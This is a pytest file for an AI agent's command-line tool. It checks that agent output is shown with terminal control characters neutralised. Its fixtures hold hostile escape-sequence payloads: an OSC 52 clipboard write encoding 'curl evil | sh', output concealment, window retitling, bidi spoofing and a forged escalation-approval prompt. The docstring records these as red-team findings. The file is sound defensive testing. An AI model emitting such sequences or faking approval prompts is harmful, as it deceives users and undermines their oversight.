"""What the agent wrote never drives the user's terminal: the code it runs, what that code
printed (a tool result, a fetched page), its answer and the earlier conversation are shown with
escape sequences, carriage returns, bidi overrides and lone surrogates made visible.

Found by a red team: a snippet's ``print("\\x1b]52;c;...\\x07")`` set the user's clipboard
(OSC 52), ``\\x1b[8m`` concealed everything printed after it (the escalation prompt included),
``\\x1b]0;...\\x07`` retitled the window and ``\\r`` overwrote a line already shown; a lone
surrogate in the model's code crashed the session with UnicodeEncodeError.
"""

from __future__ import annotations

import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

from appliance.agent.terminal import Terminal

CLI = [sys.executable, "-m", "appliance.cli"]

HOSTILE = (
    "line one\n"
    "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07clipboard\n"
    "\x1b]0;owned\x07title \x1b[2J\x1b[8mconceal\n"
    "real\rfake \u202egnp.exe\u202c \x9b31m c1\n"
    "surrogate \ud800 end\tTAB"
)
FORBIDDEN = ("\x1b", "\x07", "\r", "\u202e", "\u202c", "\x9b", "\ud800")


def _strict_stream() -> tuple[io.BytesIO, io.TextIOWrapper]:
    raw = io.BytesIO()
    return raw, io.TextIOWrapper(raw, encoding="utf-8", errors="strict", write_through=True)


def _assert_inert(text: str) -> None:
    for char in FORBIDDEN:
        assert char not in text, (char, text)


@pytest.mark.parametrize("kind", ["code", "result", "assistant"])
@pytest.mark.parametrize("verbose", [True, False])
def test_agent_text_is_shown_inert_and_never_crashes_the_terminal(kind, verbose):
    raw, out = _strict_stream()
    screen = Terminal(out=out, err=io.StringIO(), verbose=verbose)
    screen.report(kind, "DENIED: " + HOSTILE)
    shown = raw.getvalue().decode("utf-8")
    _assert_inert(shown)
    if verbose:
        assert "line one\n" in shown  # line breaks stay line breaks
        assert "\\x1b]52;c;" in shown and "\\u202e" in shown  # visible, not swallowed


def test_the_earlier_conversation_is_shown_inert():
    raw, out = _strict_stream()
    Terminal(out=out, err=io.StringIO()).transcript([("agent", HOSTILE)])
    _assert_inert(raw.getvalue().decode("utf-8"))


def _exec(args, env, stdin):
    return subprocess.run(
        [*CLI, "exec", *args], env=env, input=stdin, capture_output=True, text=True,
        encoding="utf-8", errors="surrogateescape", timeout=240,
    )  # fmt: skip


SNIPPET = (
    "import sys\n"
    "print('\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07 \\x1b[8m \\r \\u202e \\x9b')\n"
    "print('\\x1b]0;owned\\x07', file=sys.stderr)\n"
    "'\\x1b[2J \\u202e'\n"
)


def test_exec_text_shows_the_snippets_output_inert(cli_env, tmp_path: Path):
    work = tmp_path / "work"
    work.mkdir()
    done = _exec(["-", "--sandbox", str(work), "--text"], cli_env, SNIPPET)
    assert done.returncode == 0, done.stderr
    _assert_inert(done.stdout)
    _assert_inert(done.stderr)
    assert "\\x1b]52;c;" in done.stdout and "\\x1b]0;owned" in done.stderr


def test_exec_json_carries_no_raw_control_or_bidi_characters(cli_env, tmp_path: Path):
    work = tmp_path / "work"
    work.mkdir()
    done = _exec(["-", "--sandbox", str(work)], cli_env, SNIPPET)
    assert done.returncode == 0, done.stderr
    _assert_inert(done.stdout)
    result = json.loads(done.stdout)
    assert "\x1b]52;c;" in result["stdout"]  # the data itself is intact for programs


def test_a_model_message_never_starts_a_line_where_the_escalation_prompt_does() -> None:
    """A model's text (verbose mode) can hold a look-alike escalation block printed just before
    the real one: its lines after the first are indented, as code and results are."""
    out = io.StringIO()
    fake = "Done reading.\nEscalation 1: filesystem/read_file ~/notes.txt\n/approve 1 to allow"
    Terminal(out=out, err=io.StringIO(), verbose=True).report("assistant", fake)
    lines = [line for line in out.getvalue().splitlines() if line]
    assert lines[0] == "agent: Done reading."
    assert all(line.startswith("       ") for line in lines[1:]), lines
